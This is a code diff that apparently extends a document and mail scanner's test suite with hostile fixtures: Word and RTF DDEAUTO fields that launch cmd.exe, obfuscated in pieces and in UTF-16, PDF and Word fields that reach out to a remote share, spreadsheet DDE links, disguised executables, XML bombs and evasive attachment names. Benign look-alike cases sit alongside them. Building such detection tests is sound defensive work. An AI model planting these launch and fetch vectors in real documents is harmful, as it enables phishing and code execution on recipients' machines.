@@ -49,8 +49,20 @@ def docx_with(relations: str = "", /, **parts: bytes) -> bytes:
     return files.office("docx", **{"_rels/document.xml.rels": xml} | parts)
 
 
-def relation(kind: str, target: str) -> str:
-    return f'<Relationship Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
+def relation(kind: str, target: str, mode: str = "External") -> str:
+    return f'<Relationship Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+
+
+def docx_saying(*parts: str, encoding: str = "utf-8") -> bytes:
+    """Return a Word file whose text holds a field, its code in these parts."""
+    code = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
+    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+    text = f'<w:document xmlns:w="w"><w:p>{begin}{code}{end}</w:p></w:document>'
+    return docx_with(**{"document.xml": text.encode(encoding)})
+
+
+def office_with(kind: str, name: str, xml: str) -> bytes:
+    return files.office(kind, **{name: xml.encode()})
 
 
 def zip_bomb(size: int = 64 * 1024 * 1024) -> bytes:
@@ -223,6 +235,11 @@ HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
             catalog=b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>")),
     "pdf: carries a file without saying so": ("a.pdf", "POE-02", lambda: pdf_with(b"<</F(a)/EF<</F 9 0 R>>>>")),
     "pdf: film with a program": ("a.pdf", "POE-02", lambda: pdf_with(b"<< /Subtype /RichMedia >>")),
+    "pdf: film, written closely": ("a.pdf", "POE-02", lambda: pdf_with(b"<</Type/Annot/Subtype/RichMedia>>")),
+    "pdf: scripts by name, written closely": (
+        "a.pdf", "POE-02", lambda: pdf_with(catalog=b"/Names<</Dests 5 0 R/JavaScript 6 0 R>>")),
+    "pdf: opens a file of a share": (
+        "a.pdf", "POE-02", lambda: pdf_with(b"<</S/GoToR/F(\\\\\\\\203.0.113.5\\\\x)>>", catalog=b"/OpenAction 4 0 R")),
     "pdf: form of its own kind": ("a.pdf", "POE-02", lambda: pdf_with(catalog=b"/AcroForm << /XFA [] >>")),
     "pdf: bomb of objects": ("a.pdf", "POE-04", lambda: pdf_with(bomb_of_objects())),
     "pdf: locked": ("a.pdf", "POE-04", lambda: files.pdf(password="x")),
@@ -282,10 +299,34 @@ HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
     "docx with two parts of one name": ("a.docx", "POE-04", doubled),
     "xlsx that is a bomb": ("a.xlsx", "POE-04", zip_bomb),
     "docx with shared bytes": ("a.docx", "POE-04", overlapping),
+    "docx with an object of another name": (
+        "a.docx", "POE-02", lambda: docx_with(relation("oleObject", "media/data.bin", "Internal"), **{"media/data.bin": b"x"})),
+    "docx with an object without a relation": ("a.docx", "POE-02", lambda: docx_with(**{"media/image1.wmf": files.compound(["x"])})),
+    "docx with a program named a picture": ("a.docx", "POE-02", lambda: docx_with(**{"media/image1.png": EXE})),
+    "docx that takes in another text": (
+        "a.docx", "POE-02", lambda: docx_with(relation("aFChunk", "chunk.rtf", "Internal"), **{"chunk.rtf": b"{\\rtf1 x}"})),
+    "docx that starts a program": ("a.docx", "POE-02", lambda: docx_saying("DDEAUTO c:\\\\cmd.exe", "/k calc")),
+    "docx that starts a program, in pieces": ("a.docx", "POE-02", lambda: docx_saying(" D", "&#68;", "E c:\\\\cmd.exe")),
+    "docx that starts a program, in UTF-16": ("a.docx", "POE-02", lambda: docx_saying("DDE cmd x", encoding="utf-16")),
+    "docx with a field that fetches": (
+        "a.docx", "POE-02", lambda: office_with("docx", "header1.xml", '<w:hdr xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\203.0.113.5\\\\x&quot;"/></w:hdr>')),
+    "docx of ten million elements": (
+        "a.docx", "POE-04", lambda: office_with("docx", "x.xml", "<a>" + "<b>" * 9_000_000)),
+    "docx of one long word": ("a.docx", "POE-04", lambda: office_with("docx", "x.xml", f'<a b="{"x" * 9_000_000}"/>')),
+    "xlsx that starts a program": (
+        "a.xlsx", "POE-02", lambda: office_with("xlsx", "link.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')),
+    "xlsx that fetches when opened": (
+        "a.xlsx", "POE-02", lambda: office_with("xlsx", "c.xml", '<connections><connection id="1" refreshOnLoad="1"/></connections>')),
+    "pptx that starts a program": (
+        "a.pptx", "POE-02", lambda: office_with("pptx", "s.xml", '<p:sld xmlns:p="p"><hlinkMouseOver action="ppaction://program"/></p:sld>')),
     "docx locked": ("a.docx", "POE-04", lambda: files.compound(["EncryptionInfo", "EncryptedPackage"])),
     "rtf with an object": ("a.rtf", "POE-02", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"),
     "rtf with a template of the web": ("a.rtf", "POE-02", lambda: b"{\\rtf1{\\*\\template http://x.example/t}}"),
     "rtf that starts a program": ("a.rtf", "POE-02", lambda: b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k x"}}}'),
+    "rtf that starts a program, in pieces": (
+        "a.rtf", "POE-02", lambda: b"{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1" + b"\\f1" * 60 + b" D}{\\'44EAUTO c:\\\\cmd.exe}}}}"),
+    "rtf with a picture of the web": (
+        "a.rtf", "POE-02", lambda: b'{\\rtf1{\\field{\\*\\fldinst {INCLUDEPICTURE "http://x.example/p.png"}}}}'),
     # --- mail -----------------------------------------------------------------------------------
     "mail with a program": ("a.eml", "POE-02", lambda: mail_with('filename="invoice.exe"')),
     "mail with a program, named twice": ("a.eml", "POE-02", lambda: mail_with('filename="invoice.pdf.scr "')),
@@ -294,6 +335,9 @@ HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
         "a.eml", "POE-02", lambda: mail_with("filename*0=\"invoice.e\";\r\n filename*1=\"xe\"")),
     "mail with a program, name with percents": ("a.eml", "POE-02", lambda: mail_with("filename*=utf-8''invoice%2Ejs")),
     "mail with a program by its type": ("a.eml", "POE-02", lambda: mail_with('filename="a"', "application/x-msdownload")),
+    "mail with a program, with two names": ("a.eml", "POE-02", lambda: mail_with('filename="a.pdf"; filename="a.exe"')),
+    "mail with a program, lines ended otherwise": (
+        "a.eml", "POE-02", lambda: mail_with('filename="a.exe"').replace(b"\r\n", b"\r")),
     "mail with a page": ("a.eml", "POE-02", lambda: mail_with('filename="login.html"')),
     "mail with a mail with a script": ("a.eml", "POE-02", mail_in_mail),
     "mail with a program in its text": ("a.eml", "POE-02", lambda: files.MAIL + b"begin 644 evil.exe\n#0V%T\n`\nend\n"),
@@ -359,6 +403,36 @@ HONEST: dict[str, tuple[str, Callable[[], bytes]]] = {
     "docx with a chart's table": (
         "a.docx",
         lambda: docx_with(**{"embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"}),
+    ),
+    "docx with a picture of a mail": (
+        "a.docx",
+        lambda: docx_saying(' INCLUDEPICTURE "cid:image001.png@01D5" \\* MERGEFORMAT '),
+    ),
+    "docx with a link in a field": (
+        "a.docx",
+        lambda: docx_saying(' HYPERLINK "https://customer.example/dde" '),
+    ),
+    "docx with a picture of its writer": (
+        "a.docx",
+        lambda: docx_saying(' INCLUDEPICTURE "C:\\\\Users\\\\ada\\\\logo.png" '),
+    ),
+    "xlsx with cells and a connection": (
+        "a.xlsx",
+        lambda: files.office(
+            "xlsx",
+            **{
+                "sheet1.xml": b'<worksheet><c><f>SUM(A1)</f></c></worksheet>',
+                "connections.xml": b'<connections><connection id="1"/></connections>',
+            },
+        ),
+    ),
+    "pptx with a jump": (
+        "a.pptx",
+        lambda: office_with("pptx", "s.xml", '<sld><hlinkClick action="ppaction://hlinksldjump"/></sld>'),
+    ),
+    "rtf with links": (
+        "a.rtf",
+        lambda: b'{\\rtf1{\\field{\\*\\fldinst {\\b HYPERLINK "https://x.example/dde" }}{\\fldrslt x}}}',
     ),
     "mail with a proof": ("a.eml", lambda: mail_with('filename="proof.pdf"', "application/pdf")),
     "mail with dashes": ("a.eml", lambda: files.MAIL + b"-----\r\n" * 5000 + b"-- \r\nAda\r\n"),
